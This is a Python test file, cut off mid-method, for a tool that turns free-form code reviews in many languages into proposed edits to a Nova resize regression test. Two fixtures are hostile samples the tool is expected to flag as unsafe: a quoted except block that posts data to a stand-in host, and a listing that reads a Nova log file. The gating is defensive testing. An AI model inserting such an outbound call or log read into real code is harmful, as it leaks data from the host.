# Licensed under the Apache License, Version 2.0 (the "License"); you may
# not use this file except in compliance with the License. You may obtain
# a copy of the License at
#
#      http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS, WITHOUT
# WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied. See the
# License for the specific language governing permissions and limitations
# under the License.


"""Where a review's block or removal lands: the classes heldout5 showed.

Each test writes a short review, runs the prepare stage (reading, claims,
edits; no run), and checks the proposed test against the canonical one:
what changed, and that nothing else did.
"""

import difflib
import json
import os
import tempfile

import testtools

from nova_resize_checks import assertions
from nova_resize_checks import canonical
from nova_resize_checks.review import prepare
from nova_resize_checks.review.versions import numbering
from nova_resize_checks.review.versions import quotes

HERE = os.path.dirname(os.path.abspath(__file__))
TEST_FILE = os.path.join(HERE, '..', '..', 'functional',
                         'test_bug_1825537.py')
WANTED = ("        self.assertEqual(\n"
          "            [dest_rp_uuid],\n"
          "            list(self._get_allocations_by_server_uuid("
          "server['id'])))\n")


def _canonical():
    with open(TEST_FILE) as f:
        return f.read()


class _Prepared(testtools.TestCase):

    def prepare(self, text, suffix='.md'):
        with tempfile.TemporaryDirectory() as tmp:
            path = os.path.join(tmp, 'review' + suffix)
            with open(path, 'w', encoding='utf-8') as f:
                f.write(text)
            report = prepare.prepare(path, prepare.Context())
        version = report.versions.get(report.proposed_key)
        return report, (version.test_source if version else None)

    def delta(self, proposed):
        """(removed, added) stripped lines of the proposed test."""
        removed, added = [], []
        for line in difflib.ndiff(_canonical().splitlines(),
                                  proposed.splitlines()):
            if line.startswith('- '):
                removed.append(line[2:].strip())
            elif line.startswith('+ '):
                added.append(line[2:].strip())
        return removed, added


class TestBlocksPutNextToALine(_Prepared):

    def test_after_line_n_in_english_and_other_languages(self):
        for intro in ('I suggest adding this after line 85:',
                      '\u5efa\u8bae\u5728\u7b2c 85 \u884c\u4e4b\u540e'
                      '\u52a0\u4e0a\uff1a',
                      'Bitte nach Zeile 85 einf\u00fcgen:'):
            report, proposed = self.prepare(
                'Review\n\n%s\n\n```python\n%s```\n' % (intro, WANTED))
            removed, added = self.delta(proposed)
            self.assertEqual([], removed, intro)
            self.assertEqual('self.assertEqual(', added[0], intro)
            lines = proposed.splitlines()
            at = lines.index('        self.assertEqual(')
            self.assertEqual('            self.flavor2, server[\'id\'], '
                             'dest_rp_uuid)', lines[at - 1], intro)

    def test_new_assertions_with_no_place_go_at_the_end(self):
        report, proposed = self.prepare(
            'Review\n\nPlease add the following assertion:\n\n'
            '```python\n%s```\n' % WANTED)
        removed, added = self.delta(proposed)
        self.assertEqual([], removed)
        self.assertEqual(
            '            list(self._get_allocations_by_server_uuid('
            "server['id'])))", proposed.rstrip('\n').splitlines()[-1])

    def test_an_assertion_reading_a_helper_local_is_not_moved(self):
        # `migration` is bound in _resize_and_assert_error, not in the test
        # method: at its end the assertion would raise NameError.
        report, proposed = self.prepare(
            'Review\n\nPlease add:\n\n```python\n'
            '        self.assertIsNotNone(migration)\n```\n')
        self.assertIsNone(proposed)
        self.assertEqual('unverified', report.verdict)

    def test_a_place_that_describes_places_nothing(self):
        report, proposed = self.prepare(
            'The check at the end of the test is the one that matters, so '
            'the usage comparison should not fail the run:\n\n```python\n'
            '        source_rp_usages = self._get_provider_usages('
            'source_rp_uuid)\n'
            "        no_usage = {'VCPU': 0, 'MEMORY_MB': 0, 'DISK_GB': 0}\n"
            '        try:\n'
            '            self.assertEqual(no_usage, source_rp_usages)\n'
            '        except AssertionError:\n'
            '            pass\n```\n')
        removed, added = self.delta(proposed)
        # The try wraps the existing assertion; nothing is appended.
        self.assertEqual(['self.assertEqual(no_usage, source_rp_usages)'],
                         removed)
        self.assertEqual(1, proposed.count('self._get_provider_usages('
                                           'source_rp_uuid)'))


class TestRemovals(_Prepared):

    def test_an_aside_between_the_code_and_its_verb(self):
        report, proposed = self.prepare(
            "`self.assertEqual('error', migration['status'])` (line 55) can "
            "be removed.\n")
        removed, added = self.delta(proposed)
        self.assertEqual(["self.assertEqual('error', migration['status'])"],
                         removed)
        self.assertEqual([], added)

    def test_a_comparison_named_by_the_value_it_reads(self):
        report, proposed = self.prepare(
            'The `no_usage` comparison can be removed.\n')
        removed, added = self.delta(proposed)
        self.assertEqual(['self.assertEqual(no_usage, source_rp_usages)'],
                         removed)
        self.assertIn("no_usage = {'VCPU': 0, 'MEMORY_MB': 0, 'DISK_GB': 0}",
                      proposed)


class TestRenamedHelper(_Prepared):

    def test_a_helper_shown_under_a_new_name_is_renamed(self):
        source = _canonical()
        start = source.index('    def _resize_and_assert_error')
        end = source.index('    def test_finish_resize_fails')
        helper = source[start:end].replace('_resize_and_assert_error',
                                           '_resize_and_expect_failure')
        report, proposed = self.prepare(
            'I would rename the helper:\n\n```python\n%s```\n' % helper)
        self.assertNotIn('_resize_and_assert_error', proposed)
        self.assertEqual(2, proposed.count('_resize_and_expect_failure'))
        self.assertEqual(len(source.splitlines()),
                         len(proposed.splitlines()))
        # The placement assertions are still found after the renamed call.
        self.assertEqual(assertions.allocation_assertion_lines(source),
                         assertions.allocation_assertion_lines(proposed))


class TestGerritHeaders(_Prepared):

    def test_these_lines_of_the_fixed_version(self):
        report, proposed = self.prepare(
            'nova/tests/functional/regressions/test_bug_1825537.py\n\n'
            'Lines 72-74:\nAssert on the migration consumer instead. I\'d '
            'replace these three lines with:\n\n'
            '    self.assertEqual(\n'
            '        {}, self._get_allocations_by_server_uuid(\n'
            "            self.get_migration_uuid_for_instance(server['id'])))"
            '\n', suffix='.txt')
        removed, added = self.delta(proposed)
        self.assertEqual(
            ['source_rp_usages = self._get_provider_usages(source_rp_uuid)',
             "no_usage = {'VCPU': 0, 'MEMORY_MB': 0, 'DISK_GB': 0}",
             'self.assertEqual(no_usage, source_rp_usages)'], removed)

    def test_a_statement_unlike_the_line_is_not_put_there(self):
        # Recreate line 42 is the migration wait; ours line 42 is not.
        report, proposed = self.prepare(
            'nova/tests/functional/regressions/test_bug_1825537.py\n\n'
            "PS1, Line 42: self._wait_for_migration_status(server, "
            "['error'])\nIs 'error' right? I thought it ends 'finished':\n\n"
            "    self._wait_for_migration_status(server, ['finished'])\n",
            suffix='.txt')
        removed, added = self.delta(proposed)
        self.assertEqual(
            ["migration = self._wait_for_migration_status(server, ['error'])"],
            removed)
        self.assertEqual(
            ["self._wait_for_migration_status(server, ['finished'])"], added)


class TestNumbering(testtools.TestCase):

    def test_a_range_of_the_fixed_version(self):
        test = _canonical().split('\n')
        self.assertEqual((92, 94), numbering.range_of_known_version(
            72, 74, 'self.assertEqual({}, x)', [test], named='fixed'))

    def test_our_own_whole_statements_stay(self):
        test = _canonical().split('\n')
        self.assertIsNone(numbering.range_of_known_version(
            92, 94, "self.assertEqual(no_usage, source_rp_usages)", [test]))


class TestHeldout6Classes(_Prepared):

    def test_a_changed_statement_far_away_is_an_insertion(self):
        # The new assertion is like line 98's, but the snippet shows it
        # right after lines 84-85: nothing between is removed.
        report, proposed = self.prepare(
            'Add one line below:\n\n```python\n'
            '        self.assertFlavorMatchesAllocation(\n'
            "            self.flavor2, server['id'], dest_rp_uuid)\n"
            '        self.assertEqual(\n'
            "            1, len(self._get_allocations_by_server_uuid("
            "server['id'])))\n```\n")
        removed, added = self.delta(proposed)
        self.assertEqual([], removed)
        self.assertEqual(['self.assertEqual(',
                          "1, len(self._get_allocations_by_server_uuid("
                          "server['id'])))"], added)

    def test_a_new_statement_reading_a_later_name_goes_where_written(self):
        # Right after lines 84-85 in the snippet, with nothing elided
        # between: that is where the review puts it, though it reads
        # source_rp_usages before line 92 binds it (the review's change
        # then breaks the test, which the runs show).
        snippet = ('```python\n'
                   '        self.assertFlavorMatchesAllocation(\n'
                   "            self.flavor2, server['id'], dest_rp_uuid)\n"
                   "%s        self.assertNotIn('VCPU', source_rp_usages)\n"
                   '```\n')
        report, proposed = self.prepare(snippet % '')
        removed, added = self.delta(proposed)
        self.assertEqual(([], ["self.assertNotIn('VCPU', source_rp_usages)"]),
                         (removed, added))
        self.assertLess(
            proposed.index("self.assertNotIn('VCPU', source_rp_usages)"),
            proposed.index('source_rp_usages = '))
        # With code elided between, its place is not the review's to
        # show: refused rather than guessed.
        report, proposed = self.prepare(snippet % '        # ...\n')
        self.assertIsNone(proposed)
        self.assertIn('before the test binds it',
                      report.changes[0].reason)

    def test_an_inline_thinking_preamble_is_dropped(self):
        report, proposed = self.prepare(
            'Thinking: maybe drop the allocation check:\n\n'
            '    - self.assertFlavorMatchesAllocation(\n'
            "    -     self.flavor2, server['id'], dest_rp_uuid)\n\n"
            'No, it is needed.\n\nAnswer: no changes requested.\n',
            suffix='.txt')
        self.assertEqual('no-fix', report.verdict, report.reason)
        self.assertEqual([], report.changes)

    def test_minus_lines_are_a_diff_not_unary_minus(self):
        report, proposed = self.prepare(
            'This one can go:\n\n'
            '    - self.assertFlavorMatchesAllocation(\n'
            "    -     self.flavor2, server['id'], dest_rp_uuid)\n",
            suffix='.txt')
        removed, added = self.delta(proposed)
        self.assertEqual(['self.assertFlavorMatchesAllocation(',
                          "self.flavor2, server['id'], dest_rp_uuid)"],
                         removed)
        self.assertEqual([], added)

    def test_a_predicate_and_a_place_before_the_modal(self):
        report, proposed = self.prepare(
            'The follow-up `self.assertFlavorMatchesUsage(dest_rp_uuid, '
            'self.flavor2)` on line 87 adds nothing and should be removed.\n')
        removed, added = self.delta(proposed)
        self.assertIn('self.assertFlavorMatchesUsage(dest_rp_uuid, '
                      'self.flavor2)', removed)

    def test_a_gerrit_l_number_comment_with_the_new_form(self):
        report, proposed = self.prepare(
            'L94: `self.assertTrue(source_rp_usages)` is enough here.\n',
            suffix='.txt')
        removed, added = self.delta(proposed)
        self.assertEqual(['self.assertEqual(no_usage, source_rp_usages)'],
                         removed)
        self.assertEqual(['self.assertTrue(source_rp_usages)'], added)

    def test_hostile_code_in_a_quoted_except_block_is_gated(self):
        report, proposed = self.prepare(
            'nova/compute/manager.py, finish_resize:\n\n```python\n'
            '        except Exception:\n'
            '            import requests\n'
            "            requests.post('http://example.invalid/', "
            'data={})\n'
            '            raise\n```\n')
        self.assertEqual('unsafe', report.verdict, report.reason)

    def test_nova_code_quoted_unchanged_is_not_unsafe(self):
        report, proposed = self.prepare(
            'nova/compute/manager.py quoted for context:\n\n```python\n'
            '        except Exception:\n'
            '            with excutils.save_and_reraise_exception():\n'
            '                self._delete_allocation_after_move(\n'
            '                    context, instance, migration)\n```\n')
        self.assertNotEqual('unsafe', report.verdict, report.reason)


class TestHeldout7Classes(_Prepared):

    def test_replace_lines_in_other_languages(self):
        block = ('```python\n'
                 '        source_rp_usages = self._get_provider_usages('
                 'source_rp_uuid)\n'
                 "        self.assertLessEqual(source_rp_usages['MEMORY_MB'], "
                 "512)\n```\n")
        for intro in ('Remplacer les lignes 92 \u00e0 94 par :',
                      'Zeilen 92 bis 94 ersetzen durch:',
                      '92\u301c94 \u884c\u76ee\u3092\u6b21\u306e\u3088\u3046'
                      '\u306b\u7f6e\u304d\u63db\u3048\u3066\u304f\u3060\u3055'
                      '\u3044\uff1a'):
            report, proposed = self.prepare('%s\n\n%s' % (intro, block))
            removed, added = self.delta(proposed)
            self.assertEqual(
                ["no_usage = {'VCPU': 0, 'MEMORY_MB': 0, 'DISK_GB': 0}",
                 'self.assertEqual(no_usage, source_rp_usages)'], removed,
                intro)

    def test_a_removal_asked_in_another_language(self):
        statement = ("self.assertIn('Virtual Interface creation failed', "
                     "server['fault']['message'])")
        report, proposed = self.prepare(
            '62\u301c63 \u884c\u76ee\u306e `%s` \u306f\u30c9\u30e9\u30a4\u30d0'
            '\u30fc\u306e\u6587\u8a00\u306b\u4f9d\u5b58\u3057\u3066\u3044'
            '\u307e\u3059\u3002\u3053\u306e\u30a2\u30b5\u30fc\u30b7\u30e7'
            '\u30f3\u306f\u524a\u9664\u3057\u3066\u304f\u3060\u3055\u3044'
            '\u3002\n' % statement)
        removed, added = self.delta(proposed)
        self.assertEqual(
            ['# The fault is the one the driver raised from finish_migration.',
             "self.assertIn('Virtual Interface creation failed',",
             "server['fault']['message'])"], removed)

    def test_a_negated_removal_removes_nothing(self):
        report, proposed = self.prepare(
            "`self.assertEqual(no_usage, source_rp_usages)` ne supprimez pas "
            "cette assertion.\n")
        self.assertIsNone(proposed)

    def test_a_marked_listing_is_gated(self):
        report, proposed = self.prepare(
            'Updated method (new lines marked with `+`):\n\n```\n'
            ' 94         self.assertEqual(no_usage, source_rp_usages)\n'
            "  +         with open('/var/log/nova/compute.log') as f:\n"
            '  +             self.assertIn("x", f.read())\n'
            ' 95\n```\n')
        self.assertEqual('unsafe', report.verdict, report.reason)


class TestHeldout8Classes(_Prepared):
    """The classes heldout8 showed (measured blind, then fixed)."""

    NEW = ("        self.assertNotIn(\n"
           "            source_rp_uuid,\n"
           "            self._get_allocations_by_server_uuid("
           "server['id']))\n")

    def test_a_block_put_after_a_statement_quoted_inline(self):
        for intro in ('Please add this after '
                      '`self.assertEqual(no_usage, source_rp_usages)`:',
                      "Je propose d'ajouter, apr\u00e8s "
                      '`self.assertEqual(no_usage, source_rp_usages)` :',
                      'Bitte vor `self.assertEqual(no_usage, '
                      'source_rp_usages)` hinzuf\u00fcgen:'):
            report, proposed = self.prepare(
                'Review\n\n%s\n\n```python\n%s```\n' % (intro, self.NEW))
            removed, added = self.delta(proposed)
            self.assertEqual([], removed, intro)
            lines = [line.strip() for line in proposed.splitlines()]
            at = lines.index('self.assertEqual(no_usage, source_rp_usages)')
            if 'vor' in intro:
                self.assertEqual('source_rp_uuid,', lines[at - 2], intro)
            else:
                self.assertEqual('self.assertNotIn(', lines[at + 1], intro)

    def test_a_gerrit_comment_asking_to_drop_its_line(self):
        report, proposed = self.prepare(
            "Line 55: the wait only returns a migration in 'error', so "
            "this can never fail. Please drop the assertion.\n", '.txt')
        removed, added = self.delta(proposed)
        self.assertEqual(["self.assertEqual('error', migration['status'])"],
                         removed)
        self.assertEqual([], added)

    def test_a_gerrit_comment_that_keeps_or_names_another_noun(self):
        for text in ('Line 62: the fault check matters, please do not '
                     'remove it.\n',
                     'Line 60: please drop the argument, it is noise.\n'):
            report, proposed = self.prepare(text, '.txt')
            self.assertIsNone(proposed, text)

    def test_a_gerrit_question_proposing_a_new_form(self):
        report, proposed = self.prepare(
            'Line 94: why not self.assertDictEqual(no_usage, '
            'source_rp_usages)? The diff is per key.\n', '.txt')
        removed, added = self.delta(proposed)
        self.assertEqual(['self.assertEqual(no_usage, source_rp_usages)'],
                         removed)
        self.assertEqual(['self.assertDictEqual(no_usage, source_rp_usages)'],
                         added)

    def test_requests_without_code_in_other_languages_are_unparsed(self):
        for text in ('\ub9ac\ubdf0\uc785\ub2c8\ub2e4. \uac19\uc740 '
                     '\ud638\uc2a4\ud2b8 \ub9ac\uc0ac\uc774\uc988\ub3c4 '
                     '\ub2e4\ub8e8\uc5b4\uc57c \ud569\ub2c8\ub2e4.\n',
                     '\u0422\u0435\u0441\u0442 \u0445\u043e\u0440\u043e\u0448'
                     '\u0438\u0439. \u041f\u043e\u0436\u0430\u043b\u0443\u0439'
                     '\u0441\u0442\u0430, \u0434\u043e\u0431\u0430\u0432\u044c'
                     '\u0442\u0435 \u043f\u0440\u043e\u0432\u0435\u0440\u043a'
                     '\u0443 \u0441\u043e\u0431\u044b\u0442\u0438\u0439.\n'):
            report, proposed = self.prepare(text, '.txt')
            self.assertEqual('unverified', report.verdict, text)

    def test_a_description_in_another_language_asks_for_nothing(self):
        # "Before the fix, the old flavor came back to host1 here."
        report, proposed = self.prepare(
            '\u4fee\u6b63\u524d\u306f\u3001\u3053\u3053\u3067 host1 '
            '\u306b\u53e4\u3044\u30d5\u30ec\u30fc\u30d0\u30fc\u304c'
            '\u623b\u3063\u3066\u3044\u307e\u3057\u305f\u3002\n', '.txt')
        self.assertEqual('no-fix', report.verdict, report.reason)

    def test_a_description_with_lets_is_not_a_request(self):
        report, proposed = self.prepare(
            'If that delete fails, `AllocationDeleteFailed` is re-raised, '
            'which lets the placement error propagate instead.\n')
        self.assertEqual('no-fix', report.verdict, report.reason)

    def test_nova_code_quoted_with_parts_left_out_proposes_nothing(self):
        report, proposed = self.prepare(
            '`finish_resize` reads:\n\n```python\n'
            '        try:\n'
            '            self._finish_resize_helper(context, disk_info, '
            'image, instance,\n'
            '                                       migration, '
            'request_spec)\n'
            '        except Exception:\n'
            '            with excutils.save_and_reraise_exception():\n'
            '                # ...\n'
            '                self._delete_allocation_after_move(\n'
            '                    context, instance, migration)\n'
            '```\n\nThat is why the source is empty.\n')
        self.assertEqual('no-fix', report.verdict, report.reason)
        self.assertEqual([], list(report.changes))

    def test_a_module_pasted_unfenced_over_paragraphs_is_one_block(self):
        source = _canonical()
        body = source[source.index('from nova_resize_checks import base'):]
        body = body.replace('source_rp_usages', 'host1_usages')
        report, proposed = self.prepare(
            'The module as it should read:\n\n' + body, '.txt')
        removed, added = self.delta(proposed)
        # (The license header above the first import is not code.)
        removed = [line for line in removed
                   if line and not line.startswith('#')]
        self.assertEqual(2, len(removed))
        self.assertEqual([line.replace('source_rp_usages', 'host1_usages')
                          for line in removed], added)


class TestHeldout9Classes(_Prepared):
    """The classes heldout9 showed (measured blind, then fixed)."""

    def test_json_findings_said_with_keys(self):
        for finding, removed, added in (
                ({'line': 55, 'kind': 'redundant', 'action': 'remove',
                  'code': "self.assertEqual('error', migration['status'])"},
                 ["self.assertEqual('error', migration['status'])"], []),
                ({'location': 'x.py:76',
                  'old': "server = self._resize_and_assert_error("
                         "server, 'host2')",
                  'new': "server = self._resize_and_assert_error("
                         "server, 'host1')"},
                 ["server = self._resize_and_assert_error(server, 'host2')"],
                 ["server = self._resize_and_assert_error(server, "
                  "'host1')"]),
                ({'line': 94, 'severity': 'minor',
                  'suggestion': "self.assertEqual(no_usage, "
                                "source_rp_usages, 'host1')"},
                 ['self.assertEqual(no_usage, source_rp_usages)'],
                 ["self.assertEqual(no_usage, source_rp_usages, 'host1')"])):
            report, proposed = self.prepare(
                json.dumps({'findings': [finding]}), '.txt')
            self.assertIsNotNone(proposed, finding)
            self.assertEqual((removed, added), self.delta(proposed), finding)

    def test_a_table_replacing_whole_statements_keeps_their_comments(self):
        report, proposed = self.prepare(
            '| Line | Current | Proposed |\n|---|---|---|\n'
            '| 92 | `source_rp_usages = self._get_provider_usages('
            'source_rp_uuid)` | `host1_usages = self._get_provider_usages('
            'source_rp_uuid)` |\n'
            '| 94 | `self.assertEqual(no_usage, source_rp_usages)` | '
            '`self.assertEqual(no_usage, host1_usages)` |\n')
        removed, added = self.delta(proposed)
        self.assertEqual(2, len(removed))
        self.assertEqual([line.replace('source_rp_usages', 'host1_usages')
                          for line in removed], added)

    def test_a_gerrit_comment_offering_the_new_form_of_its_line(self):
        report, proposed = self.prepare(
            'L62: nit: matching the text couples the test to the driver. '
            "`self.assertIsNotNone(server['fault'])` is all we need here.\n"
            '\nL55: nit: this cannot fail, but keep it.\n', '.txt')
        removed, added = self.delta(proposed)
        self.assertEqual(["self.assertIn('Virtual Interface creation "
                          "failed',", "server['fault']['message'])"],
                         removed)
        self.assertEqual(["self.assertIsNotNone(server['fault'])"], added)

    def test_change_line_n_in_polish_dutch_and_russian(self):
        for intro in ('Propon\u0119 zmieni\u0107 lini\u0119 94 na:',
                      'Vervang regel 94 door:',
                      '\u0417\u0430\u043c\u0435\u043d\u0438\u0442\u0435 '
                      '\u0441\u0442\u0440\u043e\u043a\u0443 94 \u043d\u0430:'):
            report, proposed = self.prepare(
                'Review\n\n%s\n\n```python\n'
                "        self.assertIn('VCPU', source_rp_usages)\n```\n"
                % intro)
            self.assertEqual(
                (['self.assertEqual(no_usage, source_rp_usages)'],
                 ["self.assertIn('VCPU', source_rp_usages)"]),
                self.delta(proposed), intro)

    def test_a_question_asking_for_more_coverage_is_a_claim(self):
        report, proposed = self.prepare(
            'Line 30: Could we also cover a resize to the same host?\n',
            '.txt')
        self.assertEqual('unverified', report.verdict, report.reason)

    def test_a_korean_prediction_is_no_request(self):
        # "host1 must be empty" (a prediction) against "must check" (asks).
        report, proposed = self.prepare(
            '\uc218\uc815\ub41c nova\uc5d0\uc11c host1\uc740 \ube44\uc5b4 '
            '\uc788\uc5b4\uc57c \ud569\ub2c8\ub2e4.\n', '.txt')
        self.assertEqual('no-fix', report.verdict, report.reason)

    def test_the_corrected_method_replacing_the_current_one(self):
        source = _canonical()
        start = source.index('    def test_finish_resize_fails')
        method = source[start:]
        report, proposed = self.prepare(
            'Here is the corrected method, which should replace the current '
            'one:\n\n```python\n%s```\n' % method.replace(
                'source_rp_usages', 'host1_usages'))
        self.assertIsNotNone(proposed)
        removed, added = self.delta(proposed)
        self.assertEqual(2, len(removed))
        self.assertEqual([line.replace('source_rp_usages', 'host1_usages')
                          for line in removed], added)

    def test_upstream_method_offered_to_replace_the_current_one(self):
        # A known version offered as the fix is a proposal, not a quotation
        # of that version ("current" names what it replaces).
        upstream = canonical.upstream_test()
        start = upstream.index('    def test_finish_resize_fails')
        report, proposed = self.prepare(
            'Here is the corrected method, which should replace the current '
            'one:\n\n```python\n%s```\n' % upstream[start:])
        self.assertEqual([True], [c.applied for c in report.changes])


class TestHeldout16Classes(_Prepared):

    def test_the_same_call_over_other_values_replaces_nothing(self):
        # assertFlavorMatchesUsage(source_rp_uuid) is no new form of line
        # 87's assertFlavorMatchesUsage(dest_rp_uuid, self.flavor2): not
        # one argument is kept, so line 87 stays.
        report, proposed = self.prepare(
            'Or use the helper for host1:\n\n```python\n'
            '        self.assertFlavorMatchesUsage(source_rp_uuid)\n```\n')
        self.assertIsNone(proposed)
        self.assertIn('no anchor', report.changes[0].reason)


class TestHeldout17Classes(_Prepared):
    """Removals heldout17 showed unread (stop 29)."""

    QUOTED = ('```python\n'
              "        migration = self._wait_for_migration_status(server, "
              "['error'])\n"
              "        self.assertEqual('error', migration['status'])\n"
              '```\n\n')

    def test_a_passive_request_before_the_quoted_lines(self):
        block = ('\n\n```python\n'
                 '        source_rp_usages = self._get_provider_usages('
                 'source_rp_uuid)\n'
                 "        no_usage = {'VCPU': 0, 'MEMORY_MB': 0, "
                 "'DISK_GB': 0}\n"
                 '        self.assertEqual(no_usage, source_rp_usages)\n'
                 '```\n')
        for intro in ('These lines can be removed:',
                      'The following lines can be deleted:',
                      'These lines are redundant and can be removed:'):
            report, proposed = self.prepare('Review.\n\n' + intro + block)
            removed, added = self.delta(proposed)
            self.assertIn('self.assertEqual(no_usage, source_rp_usages)',
                          removed, intro)
            self.assertEqual([], added, intro)
        # Told, not asked: nothing goes.
        report, proposed = self.prepare(
            'Review.\n\nThese lines were removed upstream:' + block)
        self.assertIsNone(proposed)

    def test_a_statement_that_can_go(self):
        host = "self.assertEqual(dest_host, server['OS-EXT-SRV-ATTR:host'])"
        for sentence in (
                'So the `%s` line can go.',
                'So the `%s` line (and the three comment lines above it) '
                'can go \u2014 drop it.',
                'The `%s` line (and the comment above it) can be removed.'):
            report, proposed = self.prepare(
                'Review.\n\n' + sentence % host + '\n')
            removed, added = self.delta(proposed)
            # (The comment above the statement goes with it.)
            self.assertEqual(host, removed[-1], sentence)
            self.assertEqual([], added, sentence)
        # "can go wrong", "can't go": no removal.
        for sentence in ('Without `%s` the test can go wrong.',
                         'I think `%s` cannot go.'):
            report, proposed = self.prepare(
                'Review.\n\n' + sentence % host + '\n')
            self.assertIsNone(proposed, sentence)

    def test_an_ordinal_points_into_the_quotation(self):
        status = "self.assertEqual('error', migration['status'])"
        for sentence in ('The second one can be removed.',
                         'Bigarrena kendu daiteke.',
                         'Yung pangalawa pwede nang tanggalin.',
                         'The latter is redundant; drop it.'):
            report, proposed = self.prepare(
                'Review.\n\n' + self.QUOTED + sentence + '\n')
            removed, added = self.delta(proposed)
            self.assertEqual([status], removed, sentence)
        # No ordinal: the quotation as a whole; two ordinals: neither.
        report, proposed = self.prepare(
            'Review.\n\n' + self.QUOTED +
            'The first or the second could be removed.\n')
        self.assertIsNone(proposed)

    def test_another_assertion_on_another_object_is_no_new_form(self):
        # h17_24: recreate's assertEqual(no_usage, dest_rp_usages) offered
        # as assertDictEqual took line 94's place (source_rp_usages) by
        # likeness, and the test broke on a name ours never binds.
        report, proposed = self.prepare(
            'Line 79: nit, assertDictEqual prints a diff:\n\n'
            '    self.assertDictEqual(no_usage, dest_rp_usages)\n',
            suffix='.txt')
        self.assertIsNone(proposed)
        self.assertEqual('unverified', report.verdict, report.reason)
        # The same arguments: the new form of line 94.
        report, proposed = self.prepare(
            'Nit: the dict assertion prints a per-key diff:\n\n'
            '```python\n'
            '        self.assertDictEqual(no_usage, source_rp_usages)\n'
            '```\n')
        removed, added = self.delta(proposed)
        self.assertEqual(['self.assertEqual(no_usage, source_rp_usages)'],
                         removed)
        self.assertEqual(['self.assertDictEqual(no_usage, source_rp_usages)'],
                         added)

    def test_a_suggestion_takes_the_place_of_the_quotation_before_it(self):
        # h17_20: the comment's place is in the quotation's header, the
        # suggestion block comes after a paragraph of prose.
        report, proposed = self.prepare(
            '> **tests/functional/test_bug_1825537.py**, line 56\n>\n'
            '> ```python\n'
            ">         server = self._wait_for_state_change(server, 'ERROR')\n"
            '> ```\n\n'
            'Wait for the host as well, the helper retries until both '
            'hold.\n\n'
            '```suggestion\n'
            '        server = self._wait_for_server_parameter(\n'
            "            server, {'status': 'ERROR', "
            "'OS-EXT-SRV-ATTR:host': dest_host})\n"
            '```\n')
        removed, added = self.delta(proposed)
        self.assertEqual(
            ["server = self._wait_for_state_change(server, 'ERROR')"],
            removed)
        self.assertEqual(2, len(added))

    def test_replace_the_nth_statement_of_the_quotation(self):
        # h17_36: "Replace the last assertion with:" after a quotation of
        # the migration consumer's lines.
        quoted = ('```python\n'
                  '        migration_uuid = '
                  "self.get_migration_uuid_for_instance(server['id'])\n"
                  '        self.assertEqual(\n'
                  '            {}, self._get_allocations_by_server_uuid('
                  'migration_uuid))\n'
                  '```\n\n')
        new = ('```python\n'
               '        self.assertFlavorMatchesAllocation(\n'
               '            self.flavor1, migration_uuid, source_rp_uuid)\n'
               '```\n')
        report, proposed = self.prepare(
            'Review.\n\n' + quoted + 'The consumer keeps the old flavor. '
            'Replace the last assertion with:\n\n' + new)
        removed, added = self.delta(proposed)
        self.assertEqual(['self.assertEqual(',
                          '{}, self._get_allocations_by_server_uuid('
                          'migration_uuid))'], removed)
        self.assertEqual(['self.assertFlavorMatchesAllocation(',
                          'self.flavor1, migration_uuid, source_rp_uuid)'],
                         added)


class TestRequestsInMoreLanguages(_Prepared):
    """Requests and line places in languages the lexicon lacked (stop 30).

    A request with no code is a claim the tool could not read
    (``unverified``); a description in the same language is not one
    (``no-fix``); a range named in the language with a block after it is
    the block's place.
    """

    def test_a_request_without_code_is_an_unparsed_claim(self):
        for text in (
                # Albanian: "the failure message should name the provider"
                'Mesazhi i d\u00ebshtimit duhet t\u00eb tregoj\u00eb '
                'ofruesin.',
                # Hebrew: "one has to increase `max_retries`"
                '\u05d9\u05e9 \u05dc\u05d4\u05d2\u05d3\u05d9\u05dc '
                '\u05d0\u05ea `max_retries`.',
                # Norwegian: "the waits should be longer"
                'Ventetidene b\u00f8r v\u00e6re lengre.',
                # Welsh: "the message should name the provider"
                'Dylai\u2019r neges enwi\u2019r darparwr.',
                # Swahili: "please make the waits longer"
                'Tafadhali ongeza muda wa kusubiri.'):
            report, proposed = self.prepare('Review.\n\n' + text + '\n')
            self.assertEqual('unverified', report.verdict, text)
            self.assertIsNone(proposed, text)

    def test_a_description_is_no_claim(self):
        for text in (
                # Hebrew "he has a problem" is not "one has to".
                '\u05d9\u05e9 \u05dc\u05d5 \u05d1\u05e2\u05d9\u05d4.',
                # Albanian: "the test reproduces the bug well"
                'Testi e riprodhon mir\u00eb gabimin.'):
            report, proposed = self.prepare('Review.\n\n' + text + '\n')
            self.assertEqual('no-fix', report.verdict, text)

    def test_a_range_named_in_welsh_places_the_block(self):
        # h17_29: "Suggestion: put this in place of lines 84-85:" (ours'
        # numbering), a usage check for the allocation check.
        report, proposed = self.prepare(
            'Awgrym: rhoi hwn yn lle llinellau 84-85:\n\n'
            '```python\n'
            '        self.assertEqual(\n'
            "            self.flavor2['ram'],\n"
            "            self._get_provider_usages(dest_rp_uuid)"
            "['MEMORY_MB'])\n"
            '```\n')
        removed, added = self.delta(proposed)
        self.assertEqual(['self.assertFlavorMatchesAllocation(',
                          "self.flavor2, server['id'], dest_rp_uuid)"],
                         removed)
        self.assertEqual(3, len(added))


class TestLineNumbersTellTheVersion(_Prepared):
    """The code named next to a line number tells whose numbering it is.

    Stop 30, h16_08.
    """

    GERRIT = ('Patch Set 2:\n\n(1 comment)\n\n'
              'File nova/tests/functional/regressions/'
              'test_bug_1825537.py:\n\n'
              'PS2, Line 72:\n'
              'Is this needed? If the instance consumer matches flavor2 on '
              'the dest tree (line 69), the old flavor is gone anyway -- '
              'assertFlavorMatchesAllocation fails on any out-of-tree '
              'provider. I would drop lines 71-74.\n')

    def test_lines_of_the_fixed_version_are_carried_onto_ours(self):
        report, proposed = self.prepare(self.GERRIT)
        self.assertEqual('fixed', report.reviewed_version)
        self.assertIn('line 69', report.reviewed_why)
        removed, added = self.delta(proposed)
        # The fixed version's 72-74 are our 92-94; its 71 is a comment
        # ours does not have.  Our own lines 71-74 (the boot) stay.
        self.assertEqual(
            ['source_rp_usages = self._get_provider_usages(source_rp_uuid)',
             "no_usage = {'VCPU': 0, 'MEMORY_MB': 0, 'DISK_GB': 0}",
             'self.assertEqual(no_usage, source_rp_usages)'], removed)
        self.assertEqual([], added)

    def test_our_own_numbering_stays_ours(self):
        # Ours has `_boot_and_check_allocations` on line 73.
        report, proposed = self.prepare(
